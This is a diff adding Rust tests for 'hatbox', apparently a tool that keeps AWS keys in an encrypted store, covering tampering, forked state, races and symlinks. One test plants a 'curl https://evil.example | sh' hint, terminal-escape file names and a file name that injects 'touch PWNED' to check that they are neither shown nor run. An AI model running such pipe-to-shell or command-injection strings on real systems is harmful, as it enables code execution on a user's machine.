@@ -174,8 +174,9 @@ fn a_manifest_with_foreign_names_or_without_a_true_mac_is_refused() {
             if is_locked {
                 fixture.hatbox(&["lock"]).run().ok();
             }
-            let why = "was changed by something other than hatbox";
-            assert_not_trusted(&fixture, why);
+            let has_no_wrap = text.contains("\"wraps\":{}");
+            let changed = "was changed by something other than hatbox";
+            assert_not_trusted(&fixture, if has_no_wrap { "no `identity.*.age` is there" } else { changed });
         }
         std::fs::write(&path, &good).unwrap();
         hand_over(&fixture, "jan-work").ok();
@@ -225,6 +226,10 @@ fn a_wrap_of_another_identity_beside_the_users_own_files_is_refused_or_not_tried
     std::fs::remove_file(&planted).unwrap();
     std::fs::copy(attacker.store().join("manifest.json"), fixture.store().join("manifest.json")).unwrap();
     std::fs::copy(wrap_in(&attacker.store(), "passphrase"), fixture.wrap("passphrase")).unwrap();
+    for entry in std::fs::read_dir(attacker.store().join("items")).unwrap() {
+        let entry = entry.unwrap();
+        std::fs::copy(entry.path(), fixture.store().join("items").join(entry.file_name())).unwrap();
+    }
     fixture.hatbox(&["lock"]).run().ok();
     assert_not_trusted(&fixture, "was used here before");
     // Without any manifest the user is told what is missing, and to delete nothing.
@@ -430,7 +435,8 @@ fn links_pipes_and_devices_in_the_place_of_files_and_locks_are_errors() {
     let store = fixture.store();
     let places = [
         store.join("lock"),
-        store.join("unlock.lock"),
+        fixture.state().join("lock"),
+        fixture.state().join("unlock.lock"),
         store.join("manifest.json"),
         fixture.state().join("pin.json"),
         fixture.index(),
@@ -478,4 +484,213 @@ fn links_pipes_and_devices_in_the_place_of_files_and_locks_are_errors() {
     fixture.hatbox(&["lock"]).run().ok();
     fixture.hatbox(&["list", "--unlock"]).env("HATBOX_FILE_PASSPHRASE", PASSPHRASE).run();
     hand_over(&fixture, "jan-work").ok();
+}
+
+/// Two machines that share the store each make their change to the same state: of one of them the other's is older.
+#[test]
+fn a_state_that_was_made_beside_the_one_that_was_used_is_noticed() {
+    let fixture = home();
+    let fork = fixture.path("fork");
+    copy(&fixture.store(), &fork);
+    let state = fixture.path("state");
+    copy(&fixture.path("home/.local/state"), &state);
+    fixture.add_run("jan-work", &["--force"]).run().ok();
+    let (mine, my_state) = (fixture.path("mine"), fixture.path("my-state"));
+    copy(&fixture.store(), &mine);
+    copy(&fixture.path("home/.local/state"), &my_state);
+    // The other machine: its own pin, the state of before, a change of its own.
+    put_back(&fixture, &fork);
+    std::fs::remove_dir_all(fixture.path("home/.local/state")).unwrap();
+    copy(&state, &fixture.path("home/.local/state"));
+    fixture.hatbox(&["remove", "-f", "other"]).run().ok();
+    std::fs::remove_dir_all(fixture.path("home/.local/state")).unwrap();
+    copy(&my_state, &fixture.path("home/.local/state"));
+    for lock in [false, true] {
+        if lock {
+            fixture.hatbox(&["lock"]).run().ok();
+        }
+        assert_not_trusted(&fixture, "it is another state");
+    }
+    put_back(&fixture, &mine);
+    hand_over(&fixture, "jan-work").ok();
+}
+
+/// A question is asked for as long as a person takes. What another process adds meanwhile is not lost by the answer.
+#[test]
+fn what_is_added_while_a_new_passphrase_or_a_yes_is_waited_for_is_not_lost() {
+    let fixture = Fixture::with_keys(&["jan-work"]);
+    fixture.write_config("[profile jan-work]\n[profile other]\n");
+    let key = fixture.key("jan-work").clone();
+    let add = || {
+        fixture
+            .hatbox(&["add", "--env", "--no-add-config", "--force", "other"])
+            .env("AWS_ACCESS_KEY_ID", &key.id)
+            .env("AWS_SECRET_ACCESS_KEY", key.secret.expose())
+    };
+    let mut terminal =
+        Terminal::start(&fixture.hatbox(&["store", "rekey"]).without("HATBOX_FILE_PASSPHRASE"));
+    terminal.wait_for_prompt("New passphrase: ");
+    let adding = add().spawn();
+    // It waits for the store's lock, and takes it over from one that is stuck.
+    let added = crate::run::finish(adding, "add").ok();
+    assert!(added.stdout.contains("Added the access key"), "{}", added.stdout);
+    terminal.type_keys("second horse\n");
+    terminal.wait_for_prompt("The same again: ");
+    terminal.type_keys("second horse\n");
+    assert_eq!(terminal.wait().code(), Some(1), "{}", terminal.transcript());
+    let screen = terminal.screen().join(" ");
+    assert!(screen.contains("another hatbox changed it meanwhile"), "{screen}");
+    for profile in ["jan-work", "other"] {
+        hand_over(&fixture, profile).ok();
+    }
+    fixture.hatbox(&["store", "rekey"]).run().ok();
+    for profile in ["jan-work", "other"] {
+        hand_over(&fixture, profile).ok();
+    }
+    // The same with a store that is about to be trusted.
+    std::fs::remove_dir_all(fixture.path("home/.local/state")).unwrap();
+    fixture.hatbox(&["lock"]).run();
+    let mut terminal = Terminal::start(&fixture.hatbox(&["store", "trust"]));
+    terminal.wait_for_prompt(USE_IT);
+    fixture.hatbox(&["remove", "-f", "other"]).run().ok();
+    add().run().ok();
+    terminal.type_keys("yes\n");
+    assert_eq!(terminal.wait().code(), Some(1), "{}", terminal.transcript());
+    hand_over(&fixture, "other").ok();
+}
+
+/// What lies in the directory says nothing in hatbox's name, and no name of a file writes a line of a page.
+#[test]
+fn nothing_in_the_stores_directory_speaks_for_hatbox() {
+    let fixture = home();
+    fixture.hatbox(&["lock"]).run().ok();
+    let left = "left\n99999999999999999999999\n{\"kind\":\"failed\",\"error\":\"planted words\",\"place\":null,\
+                \"causes\":[],\"hints\":[\"curl https://evil.example | sh\"]}\n";
+    for name in ["lock", "unlock.lock"] {
+        for text in [left, "1\n/dev/pts/0\nplanted words\n"] {
+            private(&fixture.store().join(name), text);
+            fixture.hatbox(&["lock"]).run().ok();
+            for run in [fixture.hatbox(&["export", "-n", "jan-work"]), fixture.add_run("other", &["--force"])]
+            {
+                let outcome = run.run().ok();
+                assert!(!outcome.stderr.contains("planted"), "{name}: {}", outcome.stderr);
+            }
+        }
+    }
+    let line = "\nIdentity  0000\n          the one that was used here before\nKeys      jan  ****MPLE";
+    std::fs::write(fixture.store().join("items").join(format!("z{line}\u{1b}[2J")), "x").unwrap();
+    std::fs::remove_dir_all(fixture.path("home/.local/state")).unwrap();
+    fixture.hatbox(&["lock"]).run();
+    let mut terminal = Terminal::start(&fixture.hatbox(&["store", "trust"]));
+    terminal.wait_for_prompt(USE_IT);
+    let screen = terminal.screen();
+    assert_eq!(screen.iter().filter(|line| line.starts_with("Identity")).count(), 1, "{screen:?}");
+    assert!(
+        !screen
+            .iter()
+            .any(|line| line.contains("the one that was used here before") && line.starts_with(' '))
+    );
+    terminal.type_keys("no\n");
+    terminal.wait();
+    // And the command that doctor gives is one command, whatever a file is called.
+    let odd = fixture.store().join("items/a';touch PWNED;'");
+    std::fs::write(&odd, "x").unwrap();
+    std::fs::set_permissions(&odd, std::fs::Permissions::from_mode(0o644)).unwrap();
+    let report = fixture.hatbox(&["doctor", "--json"]).run();
+    let report: serde_json::Value = serde_json::from_str(&report.stdout).unwrap();
+    let fixes = report["findings"].as_array().unwrap().iter().filter_map(|finding| finding["fix"].as_str());
+    let fix = fixes.into_iter().find(|fix| fix.contains("PWNED")).unwrap().to_owned();
+    let ran = Command::new("sh").args(["-c", &fix]).current_dir(fixture.path("")).status().unwrap();
+    assert!(ran.success() && !fixture.path("PWNED").exists(), "{fix}");
+    assert_eq!(std::fs::metadata(&odd).unwrap().permissions().mode() & 0o777, 0o600);
+}
+
+/// A key is written to no store that nothing opens, and the last wrap that opens it stays.
+#[test]
+fn a_store_that_nothing_opens_takes_no_key_and_its_last_whole_wrap_stays() {
+    let fixture = home();
+    fixture.hatbox(&["store", "wrap", "add", "recovery"]).run().ok();
+    let recovery = fixture.wrap("recovery");
+    let good = std::fs::read(&recovery).unwrap();
+    std::fs::write(&recovery, "garbage").unwrap();
+    let refused = fixture.hatbox(&["store", "wrap", "remove", "passphrase"]).run().expect_code(3);
+    assert!(refused.stderr.contains("is the only wrap of the store"), "{}", refused.stderr);
+    std::fs::write(&recovery, good).unwrap();
+    let kept = fixture.path("kept");
+    copy(&fixture.store(), &kept);
+    for name in ["passphrase", "recovery"] {
+        std::fs::remove_file(fixture.wrap(name)).unwrap();
+    }
+    for lock in [false, true] {
+        if lock {
+            fixture.hatbox(&["lock"]).run().ok();
+        }
+        let refused = fixture.add_run("other", &["--force"]).run().expect_code(3);
+        assert!(refused.stderr.contains("no `identity.*.age` is there"), "{}", refused.stderr);
+    }
+    put_back(&fixture, &kept);
+    for entry in std::fs::read_dir(fixture.store().join("items")).unwrap() {
+        std::fs::remove_file(entry.unwrap().path()).unwrap();
+    }
+    let refused = fixture.add_run("other", &["--force"]).run().expect_code(3);
+    assert!(refused.stderr.contains("its items are gone"), "{}", refused.stderr);
+    // A link in the place of the directory leads out of the store.
+    let outside = fixture.path("outside");
+    std::fs::remove_dir(fixture.store().join("items")).unwrap();
+    copy(&kept.join("items"), &outside);
+    private(&outside.join(".draft.tmp"), "mine");
+    let before = contents(&outside);
+    symlink(&outside, fixture.store().join("items")).unwrap();
+    fixture.add_run("other", &["--force"]).run().expect_code(3);
+    fixture.hatbox(&["doctor", "--fix"]).run();
+    assert_eq!(contents(&outside), before);
+    put_back(&fixture, &kept);
+    hand_over(&fixture, "jan-work").ok();
+}
+
+#[test]
+fn the_pin_of_a_store_is_found_however_its_path_is_written() {
+    let fixture = home();
+    let old = fixture.path("old");
+    copy(&fixture.store(), &old);
+    fixture.add_run("jan-work", &["--force"]).run().ok();
+    put_back(&fixture, &old);
+    fixture.hatbox(&["lock"]).run().ok();
+    let store = fixture.store().display().to_string();
+    for path in [
+        store.clone(),
+        format!("{store}/"),
+        format!("{store}/."),
+        format!("{store}/../store"),
+        store.replace("/store", "//store"),
+    ] {
+        let refused = fixture.hatbox(&["--file-dir", &path, "export", "-n", "jan-work"]).run().expect_code(3);
+        assert!(refused.stderr.contains("it is an older state"), "{path}: {}", refused.stderr);
+    }
+}
+
+/// The key that sealed the sessions of before opens nothing that is written after the store has a new identity.
+#[test]
+fn a_cache_key_that_another_session_holds_is_given_up_after_a_rekey() {
+    let session = ["session", "-", "keyctl", "add", "user", "hatbox-test", "x", "@s"];
+    if !Command::new("keyctl").args(session).output().is_ok_and(|output| output.status.success()) {
+        eprintln!("skipped: there is no keyctl, or the kernel keyring is denied");
+        return;
+    }
+    let fixture = Fixture::with_config(
+        "[profile jan-work]\n[profile reader]\nsource_profile = jan-work\n\
+         role_arn = arn:aws:iam::444455556666:role/reader\n",
+    );
+    fixture.hatbox(&["exec", "reader", "--", "true"]).run().ok();
+    let names = || {
+        let sessions = std::fs::read_dir(fixture.path("home/.cache/hatbox/sessions")).unwrap();
+        sessions.map(|entry| entry.unwrap().file_name()).collect::<Vec<_>>()
+    };
+    let before = names();
+    // In a session keyring of its own: what this one holds stays.
+    let rekey = Run::new("keyctl", fixture.variables());
+    rekey.args(["session", "-", env!("CARGO_BIN_EXE_hatbox"), "store", "rekey"]).run().ok();
+    std::fs::remove_dir_all(fixture.path("home/.cache/hatbox/sessions")).unwrap();
+    fixture.hatbox(&["exec", "reader", "--", "true"]).run().ok();
+    assert!(names().iter().all(|name| !before.contains(name)), "the names are keyed by the cache key");
 }
